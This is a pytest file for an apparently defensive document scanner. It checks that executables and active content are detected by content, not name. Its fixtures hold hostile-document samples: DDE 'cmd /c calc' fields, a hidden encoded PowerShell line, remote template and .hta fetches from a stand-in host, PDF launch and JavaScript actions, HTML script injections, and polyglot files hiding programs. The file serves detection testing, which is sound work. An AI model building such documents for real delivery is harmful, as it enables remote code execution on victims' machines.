"""What is a program, what is a document with one in it, and what is everyday: by content, whatever the name says."""

from __future__ import annotations

import gzip
from collections.abc import Iterator

import pytest

from active_files import (
    PROGRAM,
    WORDS,
    compound,
    compressed,
    in_base64,
    machine_code,
    packaged,
    pdf,
    picture,
    record,
    rtf,
    rtf_object,
    tarred,
    uuencoded,
    with_parts,
    with_relation,
    word,
    workbook,
    zipped,
)  # fmt: skip
from any_format import converted, odt
from hostile_files import bomb, deep_zip, locked_zip
from pipeline.model import Document, Part
from pipeline.reading import Reader, ReadingLimits
from pipeline.reading.naming import UNSEEN

MACROS = compound({"VBA/dir": b"x", "VBA/_VBA_PROJECT": b"x", "PROJECT": b"x"})
MACRO_BOOK = compound({"Workbook": record(0x809, bytes(16)) + record(0x85, bytes(5) + b"\x01" + b"\x06\x00Makro1")})
DDE_BOOK = compound({"Workbook": record(0x809, bytes(16)) + record(0x1AE, b"\x01\x00\x0a\x00\x00cmd\x03/c calc")})
TABLE_BOOK = compound({"Workbook": record(0x809, bytes(16)) + record(0x85, bytes(5) + b"\x00" + b"\x06\x00Lembar")})
LINK = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "http://jauh.example/x.hta".encode("utf-16-le")
SHEET = "xl/worksheets/sheet1.xml"


def template(target: str) -> bytes:
    return with_relation(word(), "attachedTemplate", target)


def embedded(content: bytes, name: str = "oleObject1.bin") -> bytes:
    return with_parts(word(), {f"word/embeddings/{name}": content})


def html(inside: str, head: str = "") -> bytes:
    return f"<html><head>{head}</head><body><p>{WORDS}</p>{inside}</body></html>".encode()


def sheet_with(xml: str) -> bytes:
    return with_parts(workbook(), {"xl/extra.xml": f'<x xmlns="urn:x">{xml}</x>'.encode()})


def mail_with(name: str, content: bytes) -> bytes:
    return (
        (
            f"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
            f'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\n'
        ).encode()
        + content
        + b"\r\n--b--\r\n"
    )


PROGRAMS = {
    "surat.pdf": PROGRAM,
    "foto.jpg": b"\x7fELF\x02\x01\x01",
    "catatan": b"#!/bin/sh\necho halo",
    "surat.docx": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    "cakram.dat": bytes(0x8001) + b"CD001" + bytes(100),
    "perintah.txt": b"@echo off\r\ndel berkas",
    "rincian.log": b"var sh = new ActiveXObject('WScript.Shell'); sh.Run('calc');",
    "laporan.txt": b'Set o = CreateObject("WScript.Shell")\r\no.Run "calc"',
    "pasang.txt": b"powershell -nop -w hidden -enc SQBFAFgA",
    "tautan.txt": b"[InternetShortcut]\r\nURL=http://jauh.example/",
    "registri.txt": b"Windows Registry Editor Version 5.00\r\n",
    "tabel.txt": b'ID;PWXL;N;E\r\nC;Y1;X1;EEXEC("calc")\r\nE\r\n',
    "pasang.msi.doc": compound({"!_Columns": b"x"}, clsid=bytes.fromhex("84100c0000000000c000000000000046")),
    "catatan.one": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100),
    "data.bin": b"\x00\x01\x00\x00Standard ACE DB\x00",
    "surat.pdf.js ": b"WScript.Echo(1)",
    "halaman.hta": b"<html></html>",
    "kop.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n",
    "cetak.prn": b"\x1b%-12345X@PJL JOB\n@PJL ENTER LANGUAGE=POSTSCRIPT\n%!PS-Adobe-3.0\nshowpage\n",
    "gambar.eps": b"\xc5\xd0\xd3\xc6" + bytes(30),
    "modul.pdf": b"\xa7\r\r\n" + bytes(12),
    "catatan-panjang.txt": b'\' Skrip ini menyusun laporan bulanan untuk kantor wilayah\r\nDim o\r\nSet o = CreateObject("WScript.Shell")\r\no.Run "calc"\r\n',
    "kejutan.txt": b'If Not siap Then Set s = CreateObject("WScript.Shell") : s.Run "calc"\r\n',
    "isi.Z": compressed(b"#!/bin/sh\necho halo\n" * 3),
}
ACTIVE = {
    "macro.docx": with_parts(word(), {"word/vbaProject.bin": MACROS}),
    "macro-by-another-name.docx": with_parts(word(), {"word/media/gambar1.png": MACROS}),
    "macro-by-type.docx": with_relation(word(), "vbaProject", "lain.bin", of="word/document.xml", outside=False),
    "no-macro.docm": with_parts(word(), {"[Content_Types].xml": b'<Types xmlns="urn:t"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}),
    "macro.doc": compound({"WordDocument": bytes(600), "Macros/VBA/dir": b"x"}),
    "macro.xls": compound({"Workbook": record(0x809, bytes(16)), "_VBA_PROJECT_CUR/VBA/dir": b"x"}),
    "excel4.xls": MACRO_BOOK,
    "excel4.xlsx": with_relation(workbook(), "xlMacrosheet", "macrosheets/sheet1.xml", of="xl/workbook.xml", outside=False),
    "dde.xls": DDE_BOOK,
    "macro.odt": with_parts(odt(), {"Basic/Standard/Module1.xml": b"<script:module xmlns:script='urn:s'/>"}),
    "script.odt": with_parts(odt(), {"Scripts/python/a.py": b"x"}),
    "event.odt": with_parts(odt(), {"styles.xml": b'<a xmlns:script="urn:s"><script:event-listener script:language="ooo:script"/></a>'}),
    "remote-template.docx": template("http://jauh.example/a.dotm"),
    "unc-template.docx": template("file:///\\\\jauh.example\\s\\a.dotm"),
    "host-template.docx": template("file://jauh/s/a.dotm"),
    "remote-template.odt": with_parts(odt(), {"meta.xml": b'<m xmlns:meta="urn:m" xmlns:xlink="http://www.w3.org/1999/xlink"><meta:template xlink:href="https://jauh.example/a.ott"/></m>'}),
    "remote-object.docx": with_relation(word(), "oleObject", "mhtml:http://jauh.example/x.html!x-usc:", of="word/document.xml"),
    "remote-frame.docx": with_relation(word(), "frame", "\\\\jauh\\s\\a.docx", of="word/webSettings.xml"),
    "remote-chunk.docx": with_relation(word(), "aFChunk", "https://jauh.example/a.html", of="word/document.xml"),
    "remote-picture.docx": with_relation(word(), "image", "http://jauh.example/a.png", of="word/document.xml"),
    "remote-book.xlsx": with_relation(workbook(), "externalLinkPath", "https://jauh.example/a.xlsx", of="xl/externalLinks/externalLink1.xml"),
    "chunk-with-script.docx": with_parts(word(), {"word/afchunk.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<html><script>x()</script></html>"}),
    "dde.docx": word(fields=('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',)),
    "dde-split.docx": word(fields=(" D", "DE cmd")) and word(fields=(' "DDE" cmd',)),
    "includepicture.docx": word(fields=('INCLUDEPICTURE "http://jauh.example/a.png" \\* MERGEFORMAT',)),
    "includetext-unc.docx": word(fields=('INCLUDETEXT "\\\\\\\\jauh\\\\s\\\\a.docx"',)),
    "dde.xlsx": sheet_with('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    "dde-formula.xlsx": sheet_with("<f>cmd|'/c calc'!A1</f>"),
    "fetching-formula.xlsx": sheet_with('<f>_xlfn.WEBSERVICE("http://jauh.example")</f>'),
    "connection.xlsx": sheet_with('<webPr url="http://jauh.example"/>'),
    "activex.docx": with_relation(word(), "control", "activeX/activeX1.xml", of="word/document.xml", outside=False),
    "powerpoint-action.pptx": with_parts(word(), {"ppt/slides/slide1.xml": b'<p xmlns="urn:p"><hlinkClick action="ppaction://program"/></p>'}),
    "package-with-program.docx": embedded(compound({"\x01Ole10Native": packaged("alat.exe", PROGRAM)})),
    "package-with-script.docx": embedded(compound({"\x01Ole10Native": packaged("alat.js", b"alert(1)")})),
    "package-unreadable.docx": embedded(compound({"\x01Ole10Native": b"\x05\x00\x00\x00abcde"})),
    "url-moniker.docx": embedded(compound({"\x01Ole": LINK})),
    "equation.docx": embedded(compound({"Equation Native": bytes(100)})),
    "macro-inside-table.docx": embedded(with_parts(workbook(), {"xl/vbaProject.bin": MACROS}), "Microsoft_Excel_Sheet1.xlsx"),
    "program-as-part.docx": embedded(PROGRAM, "gambar.png"),
    "locked.docx": compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
    "program.msg": compound({"__attach_version1.0_#00000000/__substg1.0_37010102": PROGRAM}),
    "flat.xml": b'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:contentType="application/vnd.ms-office.vbaProject"/></pkg:package>',
    "word2003.doc": b'<?xml version="1.0"?><w:wordDocument xmlns:w="urn:w" w:macrosPresent="yes"></w:wordDocument>',
    "object.rtf": rtf(rtf_object("Package", packaged("alat.exe", PROGRAM))),
    "equation.rtf": rtf(rtf_object("Equation.3", b"x" * 50)),
    "hidden-object.rtf": rtf("{\\object\\objemb{\\*\\objdata 0105\\bin0 00\\'00{\\*\\x}02}}"),
    "autolink.rtf": rtf(rtf_object("Word.Document.8", bytes(10), destination="\\objautlink\\objupdate")),
    "macro-inside.rtf": rtf(rtf_object("Excel.Sheet.8", MACRO_BOOK)),
    "template.rtf": rtf("{\\*\\template http://jauh.example/a.dotm}"),
    "escaped-template.rtf": rtf("{\\*\\template \\u104?\\'74tp://jauh.example/a}"),
    "dde.rtf": rtf('{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}}'),
    "split-dde.rtf": rtf("{\\field{\\*\\fldinst {D}{DEAUTO} cmd}}"),
    "picture.rtf": rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "https://jauh.example/a.png"}}'),
    "named-doc.doc": rtf("{\\*\\template \\\\\\\\jauh\\\\s\\\\a.dotm}"),
    "script.html": html("<script>x()</script>"),
    "script-by-content.txt": html("<SCRIPT src=//jauh.example/x>"),
    "handler.html": html('<img src=a onerror="x()">'),
    "handler-behind-slash.html": html("<svg/onload=x()>"),
    "handler-behind-bracket.html": html('<img alt=">" onerror=x()>'),
    "javascript.html": html('<a href="java&#115;cript:x()">a</a>'),
    "refresh.html": html("", head='<meta http-equiv="refresh" content="0;url=http://jauh.example">'),
    "form.html": html('<form action="http://jauh.example"><input type=password></form>'),
    "frame.html": html('<iframe src="http://jauh.example"></iframe>'),
    "data.html": html('<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>'),
    "utf16.html": html("<script>x()</script>").decode().encode("utf-16"),
    "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
    "animated.svg": b'<svg><a><animate attributeName="href" values="javascript:x()"/></a></svg>',
    "jpeg-and-page.html": b"\xff\xd8\xff\xe0" + bytes(20) + b"<script>x()</script>",
    "page.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<html><script>x()</script></html>",
    "mail.eml": mail_with("alat.exe", PROGRAM),
    "mail-with-macro.eml": mail_with("surat.doc", b"{\\rtf1 {\\*\\template http://jauh.example/a}}"),
    "script.pdf": pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "hex-names.pdf": pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "launch.pdf": pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "submit.pdf": pdf("", "<< /S /SubmitForm /F (http://jauh.example) >>"),
    "media.pdf": pdf("", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
    "embedded-program.pdf": pdf("/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", "<< /Type /Filespec /F (foto.jpg) /EF << /F 7 0 R >> >>", packed=PROGRAM),
    "opens-site.pdf": pdf("/OpenAction << /S /URI /URI (http://jauh.example) >>"),
    "unc.pdf": pdf("", "<< /S /GoToR /F (\\\\\\\\\\\\\\\\jauh\\\\s\\\\a.pdf) >>"),
    "rendition.pdf": pdf("", "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A 7 0 R >>", "<< /S /Rendition /OP 0 /JS (app.launchURL\\('http://jauh.example'\\)) >>"),
    "rendition-alone.pdf": pdf("", "<< /S /Rendition /OP 0 /AN 3 0 R >>"),
    "three-dimensional.pdf": pdf("", "<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 7 0 R >>", "<< /Type /3D /Subtype /U3D /OnInstantiate 8 0 R /Length 0 >>\nstream\n\nendstream"),
    "instantiated.pdf": pdf("", "<< /Subtype /PRC /OnInstantiate 7 0 R /Length 0 >>\nstream\n\nendstream"),
    "movie.pdf": pdf("", "<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (film.avi) >> >>"),
    "movie-action.pdf": pdf("", "<< /Type /Action /S /Movie /Operation /Play >>"),
    "external-stream.pdf": pdf("", "<< /Length 0 /F (http://jauh.example/a) /FFilter /FlateDecode >>\nstream\n\nendstream"),
    "external-page.pdf": pdf("", "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\jauh\\\\a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream"),
    "file-link.pdf": pdf("", "<< /S /URI /URI (file:///c:/windows/system32/calc.exe) >>"),
    "command-link.pdf": pdf("", "<< /S /URI /URI (javascript:x\\(\\)) >>"),
    "file-link.docx": with_relation(word(), "hyperlink", "file://jauh/s/alat.exe", of="word/document.xml"),
    "share-link.docx": with_relation(word(), "hyperlink", "\\\\jauh\\s\\surat.pdf.lnk", of="word/document.xml"),
    "beside-link.docx": with_relation(word(), "hyperlink", "alat.scr", of="word/document.xml"),
    "formula-link.xlsx": sheet_with('<f>HYPERLINK("file://jauh/s/alat.exe","buka")</f>'),
    "file-link.rtf": rtf('{\\field{\\*\\fldinst HYPERLINK "file:///D:/alat.bat"}}'),
    "spelt-dde.docx": word(fields=("QUOTE 68 68 69 65 85 84 79",)),
    "unnamed-template.docx": with_relation(word(), "attachedTemplate", "\\\\jauh\\s\\t.dotm", outside=False),
    "control-part.docx": with_parts(word(), {"word/activeX/a.xml": b'<ax:ocx xmlns:ax="urn:ax"/>'}),
    "download.html": html('<a download="surat.exe" href="https://jauh.example/a">Buka</a>'),
    "download-of-data.html": html(f'<a href="data:application/octet-stream;base64,{in_base64(PROGRAM)}" download>Buka</a>'),
    "percent-data.html": html('<a href="data:,%4D%5A%90%00%03">Buka</a>'),
    "archive-as-data.html": html(f'<a href="data:application/zip;base64,{in_base64(zipped(alat__exe=PROGRAM))}">Buka</a>'),
    "style.html": html("", head="<style>body { behavior : url(a.htc) }</style>"),
    "file-link.html": html('<a href="file://jauh/s/alat.exe">Buka</a>'),
    "import.html": html('<link rel="import" href="http://jauh.example/a">'),
    "seven-bits.html": b"<meta charset=utf-7>+ADw-script+AD4-x()+ADw-/script+AD4-",
    "junk-in-front.zip": b"x" * 100 + zipped(a__txt=PROGRAM),
    "front-adjusted.zip": picture() + zipped(surat__docx=with_parts(word(), {"word/vbaProject.bin": MACROS})),
    "two-in-one.zip": zipped(alat__exe=PROGRAM) + zipped(surat__txt=b"Surat biasa"),
    "behind-its-end.zip": zipped(surat__txt=b"Surat biasa") + machine_code(),
    "behind-its-end.docx": word() + bytes(64) + PROGRAM,
    "photo-and-zip.jpg": picture(behind=zipped(alat__exe=PROGRAM)),
    "photo-zip-and-junk.jpg": picture(behind=zipped(alat__js=b"x()") + b"\x01" * 100_000),
    "photo-and-rar.png": picture("PNG", b"Rar!\x1a\x07\x01\x00" + bytes(40)),
    "photo-and-program.jpg": picture(behind=bytes(10) + PROGRAM),
    "photo-and-program.png": picture("PNG", PROGRAM),
    "photo-and-program.gif": picture("GIF", PROGRAM),
    "photo-and-code.webp": picture("WEBP", b"isi" + machine_code()),
    "letter-and-zip.pdf": pdf() + zipped(a__js=b"x()"),
    "letter-and-code.pdf": pdf() + bytes(20) + machine_code(),
    "notes-and-zip.txt": b"Yth. Kepala,\n" + zipped(alat__exe=PROGRAM),
    "archive-and-zip.tar": tarred("surat.txt", b"Surat biasa", "w:") + zipped(alat__exe=PROGRAM),
    "uuencoded.txt": b"Terlampir.\n" + uuencoded("alat.exe", machine_code()) + b"Terima kasih.\n",
    "uuencoded-text.txt": uuencoded("surat.txt", b"@echo off\r\ndel berkas\r\n"),
    "begin-base64.txt": f"begin-base64 644 surat.txt\n{in_base64(PROGRAM)}\n====\n".encode(),
    "photo-and-empty-archive.jpg": picture(behind=b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)),
    "picture-and-zip.docx": with_parts(word(), {"word/media/a.jpg": picture(behind=zipped(alat__exe=PROGRAM))}),
    "base64.txt": in_base64(machine_code()).encode(),
    "base64-quoted.txt": f"Terlampir:\n{in_base64(PROGRAM * 3, indent='> ')}\n".encode(),
    "base64-in-line.csv": f'nama;isi\r\nSari;"{in_base64(machine_code())}"\r\n'.replace("\n", "").encode(),
    "base64-of-archive.txt": in_base64(zipped(surat__docx=with_parts(word(), {"word/vbaProject.bin": MACROS}))).encode(),
    "base64-twice.txt": in_base64(in_base64(machine_code()).encode()).encode(),
    "hex.txt": machine_code().hex().encode(),
    "binhex.hqx": b'(This file must be converted with BinHex 4.0)\n:"abc:\n',
    "nothing-known.Z": b"\x1f\x9d\x90" + bytes(50),
    "cells.csv": b"nama,nilai\r\nSari,=cmd|'/c calc'!A0\r\n",
    "locked.zip": locked_zip(),
    "bomb.zip": bomb(),
    "deep.zip": deep_zip(),
    "broken.zip": b"PK\x03\x04" + bytes(50),
    "nested.zip": zipped(a__zip=zipped(surat__docx=with_parts(word(), {"word/vbaProject.bin": MACROS}))),
    "in.tar.gz": tarred("alat", b"\x7fELF\x01"),
    "in.tar": tarred("alat.vbs", b"x", "w:"),
    "page.html.gz": gzip.compress(html("<script>x()</script>")),
    "arsip.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "arsip.rar": b"Rar!\x1a\x07\x01\x00" + bytes(40),
}  # fmt: skip
BEYOND_LIMITS = {"bomb.zip", "deep.zip"}
EVERYDAY = {
    "plain.docx": word(),
    "hyperlinks.docx": with_relation(with_relation(word(), "hyperlink", "https://kantor.example/a?b=c", of="word/document.xml"), "hyperlink", "file:///\\\\server\\bersama\\a.xlsx", of="word/footnotes.xml"),
    "normal-template.docx": template("file:///C:\\Users\\sari\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"),
    "drive-template.docx": template("Z:\\Templat\\Surat.dotx"),
    "embedded-table.docx": embedded(workbook(), "Microsoft_Excel_Sheet1.xlsx"),
    "embedded-old-table.docx": embedded(TABLE_BOOK),
    "packaged-pdf.docx": embedded(compound({"\x01Ole10Native": packaged("surat.pdf", pdf())})),
    "fields.docx": word(fields=("PAGE", 'HYPERLINK "https://kantor.example"', "MERGEFIELD Nama", 'INCLUDEPICTURE "cid:a" \\* MERGEFORMAT', 'LINK Excel.Sheet.12 "D:\\\\data\\\\a.xlsx" "Lembar1!R1C1" \\a', 'TOC \\o "1-3"')),
    "plain.xlsx": workbook(),
    "local-link.xlsx": with_relation(workbook(), "externalLinkPath", "file:///D:\\data\\rekap.xlsx", of="xl/externalLinks/externalLink1.xml"),
    "comment-drawing.xlsx": with_parts(workbook(), {"xl/drawings/vmlDrawing1.vml": b'<xml xmlns:v="urn:v"><v:shape>Catatan<br></v:shape></xml>'}),
    "old.xls": TABLE_BOOK,
    "plain.odt": odt(),
    "empty-library.odt": with_parts(odt(), {"Basic/Standard/script-lb.xml": b"<library/>", "Basic/script-lc.xml": b"<libraries/>"}),
    "table.rtf": rtf(rtf_object("Excel.Sheet.8", TABLE_BOOK)),
    "normal.rtf": rtf('{\\*\\template C:\\\\Templat\\\\Normal.dotm}{\\field{\\*\\fldinst HYPERLINK "https://kantor.example"}}{\\*\\generator Word}'),
    "page.html": html('<a href="https://kantor.example">a</a><img src="cid:logo"><p>Pukul 5 < 6 dan kondisi on = hidup</p>', head="<style>p {color: red}</style><!--[if gte mso 9]><xml><o:a/></xml><![endif]-->"),
    "picture.svg": b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a"><svg><path d="M0 0"/></svg>',
    "plain.pdf": pdf(),
    "form.pdf": pdf("/AcroForm << /Fields [6 0 R] >>", '<< /FT /Tx /T (nama) /V (Sari) /AA << /F << /S /JavaScript /JS (AFDate_FormatEx\\("dd/mm/yyyy"\\);) >> >> >>'),
    "links.pdf": pdf("/OpenAction [3 0 R /Fit]", "<< /S /URI /URI (https://kantor.example) >>"),
    "portfolio.pdf": pdf("/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", "<< /Type /Filespec /F (surat.txt) /EF << /F 7 0 R >> >>", packed=b"Surat biasa"),
    "notes.txt": b"Yth. Kepala,\nSkrip PowerShell kami gagal: on error resume next tidak bekerja. ActiveXObject is not defined.",
    "rows.csv": b"nama;nilai;catatan\r\nSari;-5;=SUM(A1:A2)\r\n",
    "mail.eml": mail_with("surat.pdf", pdf()),
    "letters.zip": zipped(surat__pdf=pdf(), daftar__xlsx=workbook()),
    "log.gz": gzip.compress(b"2026-03-02 error jaringan\n" * 100),
    "log.Z": compressed(b"2026-03-02 error jaringan\n" * 9),
    "web-links.pdf": pdf("", "<< /S /URI /URI (https://kantor.example/unduh/alat.exe) >>", "<< /S /URI /URI (kantor.com) >>", "<< /Type /Annot /Subtype /Widget /FT /Tx /T (nama) /F 4 /Rect [0 0 9 9] >>"),
    "folder-link.docx": with_relation(word(), "hyperlink", "file:///D:\\Surat\\balasan.docx", of="word/document.xml"),
    "host-link.docx": with_relation(with_relation(word(), "hyperlink", "www.kantor.com", of="word/document.xml"), "hyperlink", "file://kantor.com", of="word/footnotes.xml"),
    "formula-link.xlsx": sheet_with('<f>HYPERLINK("https://kantor.example","buka")</f>'),
    "page-with-picture.html": html(f'<img src="data:image/png;base64,{in_base64(picture("PNG"))}"><a download="surat.pdf" href="data:application/pdf;base64,{in_base64(pdf())}">Unduh</a><a href="//kantor.com">Kantor</a>'),
    "photo.jpg": picture(behind=bytes(5000)),
    "photo.png": picture("PNG"),
    "pictures.docx": with_parts(word(), {"word/media/a.jpg": picture(), "word/media/b.png": picture("PNG"), "word/printerSettings.bin": bytes(900)}),
    "photo.gif": picture("GIF", b"\x00"),
    "photo.webp": picture("WEBP"),
    "motion-photo.jpg": picture(behind=b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 50),
    "two-views.jpg": picture(behind=picture()),
    "photo-and-letters.jpg": picture(behind=zipped(surat__pdf=pdf())),
    "stored-documents.zip": zipped(a__docx=word(), b__xlsx=workbook(), c__zip=zipped(surat__txt=b"Surat biasa")),
    "stored-documents.tar": tarred("surat.docx", word(), "w:"),
    "portfolio-of-word.pdf": pdf("/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", "<< /Type /Filespec /F (surat.docx) /EF << /F 7 0 R >> >>", packed=word()),
    "base64-of-picture.txt": f"Foto kami:\n{in_base64(picture())}\nTerima kasih.\n".encode(),
    "uuencoded-picture.txt": uuencoded("foto.jpg", picture()),
    "hashes.txt": "".join(f"{'4d5a' if place % 2 else '1f8b'}{place:060x}  berkas-{place}.pdf\n" for place in range(6000)).encode(),
    "key.pem": f"-----BEGIN CERTIFICATE-----\n{in_base64(bytes(range(256)) * 4)}\n-----END CERTIFICATE-----\n".encode(),
    "talk.txt": b'Muncul galat: CreateObject("WScript.Shell") gagal saat membuka aplikasi SDP\n',
    "talk-of-a-line.txt": b'Yth. Kepala Bagian,\r\nAplikasi berhenti pada baris berikut:\r\n\r\nSet o = CreateObject("WScript.Shell")\r\n\r\nMohon bantuan.\r\nHormat kami,\r\nSari\r\n',
    "short-talk.txt": b'Error: CreateObject("Scripting.FileSystemObject")\r\n',
    "window.txt": b"Muncul jendela biru bertuliskan powershell -nop -w hidden lalu hilang sendiri.\n",
    "postscript.txt": b"Printer kami mencetak tulisan %!PS-Adobe-3.0 saja.\n",
    "film.mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 20,
}  # fmt: skip


@pytest.fixture(scope="module")
def reader() -> Iterator[Reader]:
    with Reader(processes=1, limits=ReadingLimits(unpacked_bytes=50_000_000)) as opened:
        yield opened


def looked_at(reader: Reader, name: str, content: bytes) -> tuple[Document, ...]:
    (found,) = reader.marks([Part(name=name, content_type="application/octet-stream", content=content)])
    return found


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_program_is_told_by_content_or_by_name(reader: Reader, name: str) -> None:
    (document,) = looked_at(reader, name, PROGRAMS[name])
    assert document.executable, document


@pytest.mark.parametrize("name", ACTIVE)
def test_what_does_something_is_named(reader: Reader, name: str) -> None:
    found = looked_at(reader, name, ACTIVE[name])
    assert not any(document.executable for document in found if document.container is None), found
    said = [document.active or "program" for document in found if document.active or document.executable]
    assert said, found
    assert (UNSEEN in said) == (name in BEYOND_LIMITS), "named, not merely broken off"


@pytest.mark.parametrize("name", EVERYDAY)
def test_what_is_everyday_passes(reader: Reader, name: str) -> None:
    found = looked_at(reader, name, EVERYDAY[name])
    assert {(document.executable, document.active) for document in found} == {(False, "")}, found


def test_what_offices_write_with_libreoffice_is_everyday(reader: Reader) -> None:
    files = {**converted(), "odt": odt()}
    found = {
        kind: [one.active for one in looked_at(reader, f"surat.{kind}", content)] for kind, content in files.items()
    }
    assert set(map(tuple, found.values())) == {("",)}, found
